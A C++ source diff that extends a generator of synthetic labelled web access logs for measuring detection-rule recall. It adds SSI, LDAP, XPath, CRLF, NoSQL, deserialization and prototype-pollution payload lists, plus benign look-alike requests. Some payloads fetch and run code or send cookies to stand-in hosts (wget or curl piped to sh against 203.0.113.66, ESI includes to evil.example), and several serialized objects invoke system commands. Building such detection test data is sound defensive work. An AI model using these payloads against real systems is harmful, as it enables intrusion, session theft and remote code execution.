@@ -7,6 +7,10 @@
 //
 // The payload lists are written from how real attacks look in logs, not from
 // the rules' patterns, so the measured recall says something about the rules.
+// The classes added after the first sixteen (SSI, LDAP, XPath, CRLF, NoSQL,
+// deserialization) and their benign look-alikes come from a second generator
+// and are interleaved without touching the first one's stream, so for a seed the
+// earlier lines are byte-for-byte those of the sixteen-class set.
 #include <fmt/format.h>
 
 #include <CLI/CLI.hpp>
@@ -877,6 +881,371 @@ Request xmlrpc(Gen& g) {
   return q;
 }
 
+// ---- classes added later -------------------------------------------------------
+// These classes draw from a generator of their own (see main), so adding them left
+// every line of the sixteen earlier classes and of the benign traffic as it was.
+
+const List kSsi = {
+    "<!--#exec cmd=\"id\"-->",
+    "<!--#exec cmd=\"/bin/cat /etc/passwd\" -->",
+    "<!--#exec cmd=\"ls -la /var/www\"-->",
+    "<!--#exec cmd=\"dir c:\\\\\"-->",
+    "<!--#exec cgi=\"/cgi-bin/printenv.pl\"-->",
+    "<!--#include virtual=\"/etc/passwd\"-->",
+    "<!--#include file=\"../../../../etc/shadow\"-->",
+    "<!--#include virtual=\"/.htpasswd\" -->",
+    "<!--#echo var=\"DOCUMENT_NAME\"-->",
+    "<!--#echo var=\"DATE_LOCAL\" -->",
+    "<!--#echo var=\"REMOTE_ADDR\"-->",
+    "<!--#echo var=\"SERVER_SOFTWARE\"-->",
+    "<!--#printenv -->",
+    "<!--#printenv-->",
+    "<!--#config errmsg=\"[ssi-probe]\"-->",
+    "<!--#config timefmt=\"%A %B %d, %Y\"--><!--#echo var=\"LAST_MODIFIED\"-->",
+    "<!--#fsize file=\"index.shtml\"-->",
+    "<!--#flastmod virtual=\"/index.html\"-->",
+    "<!--#set var=\"a\" value=\"id\"--><!--#exec cmd=\"$a\"-->",
+    "\"><!--#exec cmd=\"wget http://203.0.113.66/s -O /tmp/s\"-->",
+    "'><!--#exec cmd=\"nslookup ssi.c8s3t2.evil.example\"-->",
+    "<!--#if expr=\"$REMOTE_ADDR = /127/\"-->local<!--#endif-->",
+    "test<!--#exec cmd=\"uname -a\"-->test",
+    "<esi:include src=\"http://203.0.113.66/esi.html\"/>",
+    "<esi:include src=\"/server-status\" />",
+    "x<esi:vars>$(HTTP_COOKIE)</esi:vars>y",
+    "<esi:include src=\"http://evil.example/?c=$(HTTP_COOKIE{PHPSESSID})\"/>",
+    "<esi:debug/>",
+};
+
+Request ssi(Gen& g) {
+  std::string p = g.any(kSsi);
+  if (g.chance(0.15)) p = g.random_case(p);
+  const List names = {"name", "comment", "q",    "msg",  "title",  "email",
+                      "page", "search",  "user", "text", "subject"};
+  const List pages = {"/guestbook.shtml", "/search.shtml",  "/index.shtml",
+                      "/contact.shtml",   "/feedback.stm",  "/index.php",
+                      "/search",          "/products/view", "/"};
+  Request q;
+  q.agent = agent_for_attack(g);
+  const double r = g.uniform();
+  if (r < 0.08) {
+    q.target = g.any(pages);  // a header the site writes into an .shtml page (logs, stats)
+    q.agent = p;
+  } else if (r < 0.14) {
+    q.target = "/" + enc_full(p, g.chance(0.5)) + ".shtml";
+    q.status = 404;
+  } else {
+    q.target = with_param(g, g.any(pages), g.any(names), encode_value(g, p));
+  }
+  q.method = g.chance(0.3) ? "POST" : "GET";
+  return q;
+}
+
+const List kLdap = {
+    "*)(uid=*))(|(uid=*",
+    "*)(|(objectClass=*)",
+    "admin)(&)",
+    "admin)(|(password=*)",
+    "*)(cn=*",
+    ")(cn=*))\x00"s,
+    "admin*)((|userPassword=*)",
+    "*))\x00"s,
+    "admin))\x00"s,
+    "*(|(mail=*))",
+    "*(|(objectclass=*))",
+    "admin)(!(&(1=0",
+    "x*)(|(sn=*",
+    "*)(&(objectClass=user)(memberOf=*",
+    "jdoe)(|(givenName=*)",
+    "*)(userPassword=*)",
+    "admin)(description=*",
+    "*))(|(cn=*",
+    "(&(uid=admin)(userPassword=*))",
+    "*)(mail=*@*",
+    "*)(objectCategory=person)",
+    "admin)(uid=admin))(|(uid=",
+    "(|(uid=*)(cn=*))",
+    "*)(sAMAccountName=adm*",
+    "ad*)(|(telephoneNumber=*",
+    "*)(homeDirectory=/root",
+};
+
+Request ldapi(Gen& g) {
+  std::string p = g.any(kLdap);
+  if (g.chance(0.15)) p = g.random_case(p);
+  const List names = {"user",   "username", "uid",  "login",   "cn",     "name",
+                      "search", "q",        "mail", "account", "member", "who"};
+  const List pages = {"/login.php",   "/auth/login",   "/directory/search", "/people",
+                      "/ldap/lookup", "/api/v1/users", "/admin/login",      "/index.php"};
+  Request q;
+  q.target = with_param(g, g.any(pages), g.any(names), encode_value(g, p));
+  if (g.chance(0.4)) q.target += "&pass=" + g.alnum(6 + static_cast<int>(g.pick(6)));
+  q.method = g.chance(0.4) ? "POST" : "GET";
+  q.status = g.chance(0.6) ? 200 : g.chance(0.5) ? 302 : 500;
+  q.agent = agent_for_attack(g);
+  return q;
+}
+
+const List kXpath = {
+    "' or count(/child::node())=1 or '",
+    "' or count(//*)>0 or '",
+    "x' or name(/*[1])='users' or 'a'='b",
+    "' and string-length(name(/*[1]))=5 and '1'='1",
+    "' and substring(name(parent::*),1,1)='u' and '1'='1",
+    "'] | //* | //*['",
+    "'] | //user/password | a['",
+    "admin' or /users/user[1]/password='x",
+    "' or doc('http://203.0.113.66/x.xml') or '",
+    "' and doc(concat('http://evil.example/',name(/*)))/x or '",
+    "1 or string-length(//user[1]/password)>0",
+    "' or contains(name(/*[1]),'u') or '",
+    "' or starts-with(//user[position()=1]/name,'a') or '",
+    "x' or true() or '",
+    "/descendant-or-self::node()",
+    "') or count(/*)=1 or ('",
+    "' and count(/*[1]/*)=3 and ''='",
+    "1 and substring(//user[1]/password,1,1)='a'",
+    "' or local-name(/*)='root' or '",
+    "' or name(..)='catalog' or '",
+    "' or count(ancestor::*)=2 or '",
+    "'|//*|'",
+    "' or //user[name/text()='admin'] or '",
+    "' and count(following-sibling::*)>0 or 'a'='b",
+    "x']/../*[1]|//*['",
+    "' or number(//user[1]/id)>0 or '",
+};
+
+Request xpathi(Gen& g) {
+  std::string p = g.any(kXpath);
+  if (g.chance(0.2)) p = replace_all(p, "'", "\"");
+  const List names = {"user",     "username", "name",  "q",    "id",   "search",
+                      "category", "book",     "title", "pass", "isbn", "lang"};
+  const List pages = {"/login.php",       "/xml/search", "/books.php", "/catalog",
+                      "/api/v1/products", "/users.php",  "/index.php", "/search"};
+  Request q;
+  q.target = with_param(g, g.any(pages), g.any(names), encode_value(g, p));
+  q.method = g.chance(0.3) ? "POST" : "GET";
+  q.status = g.chance(0.7) ? 200 : 500;
+  q.agent = agent_for_attack(g);
+  return q;
+}
+
+const List kCrlf = {
+    "\r\nSet-Cookie: crlf=injection",
+    "\r\nSet-Cookie:PHPSESSID=1337deadbeef",
+    "\nLocation: https://evil.example/",
+    "\r\nLocation: //evil.example/phish",
+    "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: "
+    "text/html\r\n\r\n<html>hacked</html>",
+    "\r\nX-Injected: 1",
+    "\r\nX-Test-Header: crlf",
+    "\r\n\r\n<script>alert(document.domain)</script>",
+    "\xe5\x98\x8a\xe5\x98\x8dSet-Cookie: whoami=crlf",
+    "\xe5\x98\x8a\xe5\x98\x8dLocation: http://203.0.113.66/",
+    "\\r\\nSet-Cookie: test=1",
+    "\r\nRefresh: 0; url=http://evil.example/",
+    "\r\nAccess-Control-Allow-Origin: *",
+    "\rSet-Cookie: sess=fixed",
+    "\nX-XSS-Protection: 0",
+    "\r\nContent-Type: text/html\r\n\r\n<h1>defaced</h1>",
+    "\r\nTransfer-Encoding: chunked",
+    "\r\nX-Forwarded-For: 127.0.0.1",
+    "\r\nContent-Disposition: attachment; filename=update.exe",
+    "\r\nLink: <https://evil.example/x.css>; rel=stylesheet",
+    "\\u000d\\u000aSet-Cookie: a=b",
+    "\r\nCache-Control: public, max-age=31536000",
+    "ja\r\nSet-Cookie: lang=ja; admin=1",
+    "/\r\nLocation: javascript:alert(1)",
+    "\n\nHTTP/1.0 302 Found\nLocation: http://203.0.113.66/",
+};
+
+Request crlf(Gen& g) {
+  std::string p = g.any(kCrlf);
+  const double v = g.uniform();
+  if (v < 0.1)
+    p = replace_all(p, "\r\n", "\\r\\n");
+  else if (v < 0.18)
+    p = replace_all(p, "\r\n", "\xe5\x98\x8d\xe5\x98\x8a");
+  else if (v < 0.3)
+    p = replace_all(p, "\r\n", "\n");
+  if (g.chance(0.15)) p = g.random_case(p);
+  const List names = {"url",      "next", "return", "redirect", "r",        "lang", "page",
+                      "continue", "dest", "q",      "callback", "filename", "ref"};
+  const List pages = {"/redirect.php", "/login",        "/lang",   "/go", "/out",
+                      "/index.php",    "/download.php", "/logout", "/"};
+  Request q;
+  if (g.chance(0.15)) {
+    q.target = (g.chance(0.5) ? "/" : "/lang/") + enc_full(p, g.chance(0.5));
+    q.status = g.chance(0.5) ? 404 : 302;
+  } else {
+    q.target = with_param(g, g.any(pages), g.any(names), encode_value(g, p, false));
+    q.status = g.chance(0.6) ? 302 : 200;
+  }
+  q.agent = agent_for_attack(g);
+  return q;
+}
+
+// A MongoDB operator in a parameter name, as PHP, qs and Rails read `a[b]=c`.
+std::string operator_param(Gen& g, const std::string& name, const std::string& op) {
+  const double e = g.uniform();
+  if (e < 0.4) return name + "[" + op + "]";
+  if (e < 0.7) return name + "%5B%24" + op.substr(1) + "%5D";
+  if (e < 0.85) return name + "%5b" + op + "%5d";
+  return name + "%255B%2524" + op.substr(1) + "%255D";
+}
+
+const List kNosqlJson = {
+    "{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}",
+    "{\"username\":\"admin\",\"password\":{\"$gt\":\"\"}}",
+    "{\"$where\":\"sleep(5000)\"}",
+    "{\"email\":{\"$regex\":\"^adm\"}}",
+    "{\"$or\":[{},{\"a\":\"a\"}]}",
+    "{\"user\":{\"$in\":[\"admin\",\"root\"]}}",
+    "{\"price\":{\"$lt\":0}}",
+    "{$ne: null}",
+    "{\"token\":{\"$exists\":true}}",
+    "{\"password\": {\"$regex\": \"^a.*\"}}",
+    "{\"role\":{\"$nin\":[\"user\"]}}",
+    "{'user': {'$ne': ''}}",
+    "{\"$expr\":{\"$eq\":[1,1]}}",
+};
+
+const List kNosqlJs = {
+    "admin' || '1'=='1",
+    "'; return true; var x='",
+    "' && this.password.match(/^a.*$/)//",
+    "1; sleep(5000)",
+    "this.password.length > 0",
+    "';while(true){}'",
+    "'; db.users.find(); var a='",
+    "'||this.role=='admin",
+    "1'; return this.isAdmin == true; var a='1",
+    "\"||\"1\"==\"1",
+    "' || this.username.startsWith('adm') || '",
+    "0;return db.getCollectionNames()",
+};
+
+Request nosqli(Gen& g) {
+  const List pages = {"/login",         "/api/login", "/api/v1/users", "/api/v1/products",
+                      "/account/reset", "/api/auth",  "/search",       "/api/v1/orders"};
+  Request q;
+  q.agent = agent_for_attack(g);
+  q.method = g.chance(0.4) ? "POST" : "GET";
+  const double r = g.uniform();
+  if (r < 0.5) {
+    const std::vector<std::pair<std::string, List>> ops = {
+        {"$ne", {"", "x", "1", "null", "admin", "nobody"}},
+        {"$gt", {"", "a", "0"}},
+        {"$gte", {"", "0"}},
+        {"$lt", {"~", "zzzz"}},
+        {"$regex", {".*", "^a", "^adm.*", "a.*", "^.{8}$"}},
+        {"$exists", {"true", "1"}},
+        {"$nin", {"admin", "x"}},
+        {"$in", {"admin"}},
+        {"$where", {"1", "sleep(5000)", "this.password.length>0", "return true"}},
+    };
+    const List names = {"username", "user",  "login", "email", "password",    "pass",
+                        "pwd",      "token", "id",    "code",  "reset_token", "sku"};
+    const auto& [op, values] = ops[g.pick(ops.size())];
+    std::string name = operator_param(g, g.any(names), op);
+    if (op == "$nin" || op == "$in") name += g.chance(0.5) ? "[]" : "%5B%5D";
+    q.target = with_param(g, g.any(pages), name, encode_value(g, g.any(values), false));
+    if (g.chance(0.5)) {
+      const auto& [op2, values2] = ops[g.pick(2)];
+      q.target += "&" + operator_param(g, g.chance(0.5) ? "password" : "pass", op2) + "=" +
+                  enc_minimal(g.any(values2), false);
+    }
+  } else if (r < 0.75) {
+    const List names = {"q", "filter", "where", "query", "json", "data", "body", "criteria"};
+    q.target = with_param(g, g.any(pages), g.any(names), encode_value(g, g.any(kNosqlJson)));
+  } else {
+    const List names = {"user", "username", "q", "search", "id", "name", "cat", "password"};
+    q.target = with_param(g, g.any(pages), g.any(names), encode_value(g, g.any(kNosqlJs)));
+  }
+  q.status = g.chance(0.7) ? 200 : 302;
+  return q;
+}
+
+const List kSerialized = {
+    // PHP
+    "O:8:\"stdClass\":0:{}",
+    "O:4:\"User\":2:{s:4:\"name\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}",
+    "a:2:{i:0;O:8:\"stdClass\":0:{}i:1;s:1:\"x\";}",
+    "O:+8:\"SplStack\":0:{}",
+    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\x00*\x00"
+    "events\";"
+    "O:25:\"Illuminate\\Bus\\Dispatcher\":1:{}}"s,
+    "C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:0:{}}",
+    "O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\x00*\x00socket\";N;}"s,
+    "O:9:\"Exception\":1:{s:7:\"message\";s:2:\"id\";}",
+    "a:1:{s:4:\"user\";O:4:\"Page\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}}",
+    // Java
+    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAA"
+    "AAAAx3CAAAABAAAAAB",
+    "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgAC"
+    "TAAMbWVtYmVyVmFsdWVzdAAPTGphdmEvdXRpbC9NYXA7",
+    "aced00057372002a6f72672e6170616368652e636f6d6d6f6e732e636f6c6c656374696f6e732e6d61702e4c617a"
+    "794d61706ee594829e7910940300014c0007666163746f7279",
+    "ACED0005737200116A6176612E7574696C2E486173684D6170",
+    "\xac\xed\x00\x05sr\x00\x11java.util.HashMap"s,
+    // .NET
+    "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0sIFZlcnNpb249NC4wLjAuMCwgQ3VsdHVyZT1uZXV0cmFsLCBQdWJs"
+    "aWNLZXlUb2tlbj1iNzdhNWM1NjE5MzRlMDg5",
+    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\","
+    "\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, "
+    "System\"}}",
+    // Python
+    "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
+    "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
+    "gANjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
+    "cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.",
+    "cos\nsystem\n(S'curl http://203.0.113.66/p|sh'\ntR.",
+    "!!python/object/apply:os.system [\"id\"]",
+    "!!python/object/new:subprocess.check_output [[\"id\"]]",
+    // Ruby
+    "--- !ruby/object:Gem::Installer\ni: x\n",
+};
+
+const List kPollution = {
+    "__proto__[isAdmin]=true",
+    "a[__proto__][polluted]=1",
+    "constructor[prototype][role]=admin",
+    "__proto__.isAdmin=1",
+    "x[constructor][prototype][y]=1",
+    "__proto__[innerHTML]=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
+    "__proto__%5BtoString%5D=1",
+    "%5F%5Fproto%5F%5F[admin]=1",
+    "user[__proto__][admin]=true",
+    "constructor.prototype.isAdmin=true",
+};
+
+Request deser(Gen& g) {
+  const List pages = {"/index.php",  "/api/v1/session",   "/cart.php", "/profile", "/app/state",
+                      "/api/import", "/invoker/readonly", "/load",     "/account"};
+  Request q;
+  q.agent = agent_for_attack(g);
+  q.method = g.chance(0.35) ? "POST" : "GET";
+  q.status = g.chance(0.5) ? 500 : 200;
+  const double r = g.uniform();
+  if (r < 0.18) {
+    std::string p = g.any(kPollution);
+    if (g.chance(0.3)) p = replace_all(replace_all(p, "[", "%5B"), "]", "%5D");
+    const List extra = {"page=2", "lang=ja", "id=" + std::to_string(1 + g.pick(900))};
+    q.target = g.any(pages) + "?" + (g.chance(0.5) ? p : g.any(extra) + "&" + p);
+  } else if (r < 0.25) {
+    const List json = {"{\"__proto__\":{\"isAdmin\":true}}",
+                       "{\"constructor\":{\"prototype\":{\"polluted\":\"yes\"}}}",
+                       "{\"a\":1,\"__proto__\":{\"outputFunctionName\":\"x;process.exit()\"}}"};
+    q.target = with_param(g, "/api/merge", g.chance(0.5) ? "json" : "settings",
+                          encode_value(g, g.any(json), false));
+  } else {
+    const List names = {"data",  "state", "session", "obj",         "token", "payload",  "cart",
+                        "prefs", "user",  "object",  "remember_me", "ctx",   "viewstate"};
+    q.target =
+        with_param(g, g.any(pages), g.any(names), encode_value(g, g.any(kSerialized), false));
+  }
+  return q;
+}
+
 struct AttackClass {
   const char* name;
   std::function<Request(Gen&)> make;
@@ -1073,6 +1442,151 @@ Request benign(Gen& g) {
   return q;
 }
 
+// Benign requests that look like the classes added later: searches with their
+// keywords, parentheses, asterisks and dollar signs, multi-line form text, JSON
+// with prices, base64 tokens and images, HTML comments in a preview. Drawn from
+// the later classes' generator and added to the 24,000 ordinary benign requests.
+const List kLookalikeTerms = {
+    "exec chair",
+    "include batteries",
+    "echo dot 5th gen",
+    "config cable (2m)",
+    "set of 3 (include box)",
+    "(2+3)*4 calculator",
+    "size (M)",
+    "shoe*",
+    "rating 5* (best)",
+    "かわいい(*^_^*)",
+    "(S)(M)(L) set",
+    "contains (2 pieces)",
+    "name tag (set of 10)",
+    "count (3) pack",
+    "doc martens (black)",
+    "parent & child set",
+    "child's shoes",
+    "self-care kit",
+    "x-large shirt",
+    "content type: cotton",
+    "$5 gift",
+    "where to buy $10 gifts",
+    "return policy",
+    "this is it",
+    "O:gauge train",
+    "16:9 frame",
+    "prototype board",
+    "constructor set",
+    "set-cookie jar",
+    "location: tokyo",
+    "user (admin) manual",
+    "wildcard * search",
+    "a|b test",
+    "1/2 price (today only)",
+    "(new) arrivals",
+    "true story (book)",
+    "Tシャツ（白）(M)",
+    "100% cotton (organic)",
+    "price: $19.99",
+    "filter (water)",
+};
+
+Request benign_lookalike(Gen& g) {
+  Request q;
+  q.agent = g.chance(0.8) ? g.any(kBrowsers) : g.any(kBenignBots);
+  q.referer = g.chance(0.5) ? "https://shop.example.jp/" : "-";
+  q.bytes = 1000 + static_cast<int64_t>(g.pick(60000));
+  const double r = g.uniform();
+  if (r < 0.40) {
+    const std::string term = g.any(kLookalikeTerms);
+    const double e = g.uniform();
+    const std::string v = e < 0.5 ? enc_minimal(term, true) : enc_full(term, e < 0.75);
+    q.target = (g.chance(0.5) ? "/search?q=" : "/search.php?keyword=") + v +
+               (g.chance(0.2) ? "&order=price_asc" : "");
+  } else if (r < 0.55) {
+    // Multi-line contact forms: browsers send textarea line breaks as CR LF.
+    const List lines = {"Hello",
+                        "Name: Taro Yamada",
+                        "Location: Osaka",
+                        "Sizes needed:",
+                        "X-Large: 2",
+                        "Large: 1",
+                        "Order #1234",
+                        "Content: gift wrapping please",
+                        "Date: 2026-12-01",
+                        "Id like to order two",
+                        "Set of 3, please",
+                        "Cookie box: 2",
+                        "Thanks",
+                        "<3 love it",
+                        "(Please call after 6pm)"};
+    std::string msg;
+    const int n = 2 + static_cast<int>(g.pick(4));
+    for (int i = 0; i < n; ++i) {
+      if (i) msg += g.chance(0.8) ? "\r\n" : g.chance(0.5) ? "\n" : "\r\n\r\n";
+      msg += g.any(lines);
+    }
+    q.method = g.chance(0.7) ? "POST" : "GET";
+    q.target = (g.chance(0.5) ? "/contact?msg=" : "/review?text=") + enc_minimal(msg, true);
+    if (g.chance(0.3)) q.target += "&email=" + enc_full("hanako@example.jp", false);
+    q.status = q.method == "POST" ? 302 : 200;
+  } else if (r < 0.70) {
+    const List api = {
+        "/track?ev=purchase&data=" +
+            enc_full("{\"price\":\"$19.99\",\"currency\":\"USD\",\"qty\":2}", false),
+        "/api/v1/orders?q=" + enc_full("{\"total\":{\"amount\":1980,\"currency\":\"JPY\"}}", false),
+        "/odata/Products?$filter=Price%20gt%201000&$top=10&$orderby=Name",
+        "/odata/Orders?$select=Id,Total&$expand=Items&$skip=20",
+        "/api/v1/products?filter[price][min]=1000&filter[price][max]=5000",
+        "/api/v1/products?filter[color]=red&filter[size][]=M",
+        "/api/v1/events?d=" + enc_full("{\"$oid\":\"650f1c2e9b1e8a0012345678\"}", false),
+        "/api/v1/search?filter=" +
+            enc_full("{\"name\":\"gift (large)\",\"price\":\"<$50\"}", false),
+        "/api/v1/cart?items=" + enc_full("[{\"sku\":\"SKU-12\",\"qty\":1}]", false),
+        "/calc?expr=" + enc_full("(1200*3)-(500)", false),
+    };
+    q.target = g.any(api);
+    q.agent = g.chance(0.5) ? "ShopApp/3.2.1 (iPhone; iOS 17.4; Scale/3.00)" : q.agent;
+  } else if (r < 0.85) {
+    const std::string b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    const List tokens = {
+        "/img/thumb?src=" +
+            enc_full(
+                "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
+                "YPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
+                false),
+        "/img/thumb?src=" +
+            enc_full(
+                "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7",
+                false),
+        "/api/v1/user?token=" + enc_full(g.token(48, b64) + "==", false),
+        "/account/verify?t=" + g.token(43, b64.substr(0, 62) + "-_"),
+        "/aspnet/page.aspx?__VIEWSTATE=%2FwEPDwUKMTY3NzkyNjc4M2Rk" + g.alnum(20),
+        "/api/v1/session?jwt=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + g.alnum(40) + "." +
+            g.alnum(43),
+        "/download?sig=" + g.token(64, "0123456789abcdef"),
+        "/s?ref=" + g.token(22, b64),
+    };
+    q.target = g.any(tokens);
+  } else {
+    const List misc = {
+        "/cms/preview?html=" +
+            enc_full("<!-- banner start --><h2>Sale</h2><!-- banner end -->", false),
+        "/cms/preview?html=" + enc_full("<!-- #main --><p>Spring (2026)</p>", false),
+        "/products/tees-(white)-(m)",
+        "/image/resize?src=//cdn.shop.example.jp/p/123.jpg&w=300",
+        "/share?url=https%3A%2F%2Fshop.example.jp%2F%3Fa%3D1%26b%3D2",
+        "/account/login?next=https%253A%252F%252Fshop.example.jp%252Fcart",
+        "/news/index.shtml",
+        "/guestbook.shtml?page=2",
+        "/products/tees?ratio=16:9&color=%23ff0000",
+        "/help?topic=" + enc_full("returns (within 30 days)", false),
+        "/search?q=" + enc_full("日本茶 (100g)", false),
+        "/directory/search?name=" + enc_full("Sato*", false),
+    };
+    q.target = g.any(misc);
+  }
+  return q;
+}
+
 }  // namespace
 
 int main(int argc, char** argv) {
@@ -1080,10 +1594,13 @@ int main(int argc, char** argv) {
   uint64_t seed = 1;
   int benign_count = 24000;
   int per_class = 160;
+  int lookalikes = 1000;
   std::string dir = ".";
   app.add_option("--seed", seed, "random seed");
   app.add_option("--benign", benign_count, "benign requests");
   app.add_option("--per-class", per_class, "attack requests per class");
+  app.add_option("--lookalikes", lookalikes,
+                 "benign look-alikes of the later classes, added to --benign");
   app.add_option("--out", dir, "output folder (access.log, labels.tsv)");
   CLI11_PARSE(app, argc, argv);
 
@@ -1109,6 +1626,7 @@ int main(int argc, char** argv) {
   struct Item {
     Request req;
     std::string label;
+    bool later = false;  // drawn from `later` below
   };
   std::vector<Item> items;
   for (const AttackClass& c : classes)
@@ -1116,6 +1634,36 @@ int main(int argc, char** argv) {
   for (int i = 0; i < benign_count; ++i) items.push_back({benign(g), "benign"});
   // A stable shuffle from the same generator keeps the output a function of the seed.
   for (size_t i = items.size(); i > 1; --i) std::swap(items[i - 1], items[g.pick(i)]);
+
+  // Classes added later, and benign look-alikes of them, come from a generator of
+  // their own and are placed between the lines above without drawing from `g`
+  // (nor advancing the clock): every earlier line keeps its text, address and time
+  // for a seed, so figures measured before these classes stay comparable.
+  Gen later(seed ^ 0x6c61746572636c73ULL);
+  const std::vector<AttackClass> later_classes = {
+      {"ssi_injection", ssi, per_class / 2},  {"ldap_injection", ldapi, per_class},
+      {"xpath_injection", xpathi, per_class}, {"crlf_injection", crlf, per_class},
+      {"nosql_injection", nosqli, per_class}, {"deserialization", deser, per_class},
+  };
+  std::vector<std::pair<uint64_t, Item>> added;
+  for (const AttackClass& c : later_classes)
+    for (int i = 0; i < c.count; ++i) added.push_back({0, {c.make(later), c.name, true}});
+  for (int i = 0; i < lookalikes; ++i)
+    added.push_back({0, {benign_lookalike(later), "benign", true}});
+  for (auto& a : added) a.first = later.pick(items.size() + 1);
+  std::stable_sort(added.begin(), added.end(),
+                   [](const auto& a, const auto& b) { return a.first < b.first; });
+  {
+    std::vector<Item> merged;
+    merged.reserve(items.size() + added.size());
+    size_t k = 0;
+    for (size_t i = 0; i <= items.size(); ++i) {
+      for (; k < added.size() && added[k].first == i; ++k)
+        merged.push_back(std::move(added[k].second));
+      if (i < items.size()) merged.push_back(std::move(items[i]));
+    }
+    items = std::move(merged);
+  }
 
   std::FILE* log = std::fopen((dir + "/access.log").c_str(), "w");
   std::FILE* labels = std::fopen((dir + "/labels.tsv").c_str(), "w");
@@ -1130,15 +1678,16 @@ int main(int argc, char** argv) {
   for (auto& c : clients) c = g.ip();
   uint64_t line = 0;
   for (const Item& it : items) {
-    now += static_cast<int64_t>(g.pick(3));
+    Gen& r = it.later ? later : g;
+    if (!it.later) now += static_cast<int64_t>(g.pick(3));
     const int64_t local = now + 9 * 3600;
     int y, m, d;
     shodo::ingest::civil_from_days(local / 86400, y, m, d);
     const int64_t sod = local % 86400;
     const Request& q = it.req;
-    const std::string ip = it.label == "benign" ? clients[g.pick(clients.size())] : g.ip();
+    const std::string ip = it.label == "benign" ? clients[r.pick(clients.size())] : r.ip();
     const std::string bytes =
-        q.bytes ? std::to_string(q.bytes) : std::to_string(200 + g.pick(9000));
+        q.bytes ? std::to_string(q.bytes) : std::to_string(200 + r.pick(9000));
     // Apache escapes '"' and '\' in logged header values.
     auto header = [](const std::string& v) {
       return replace_all(replace_all(v, "\\", "\\\\"), "\"", "\\\"");
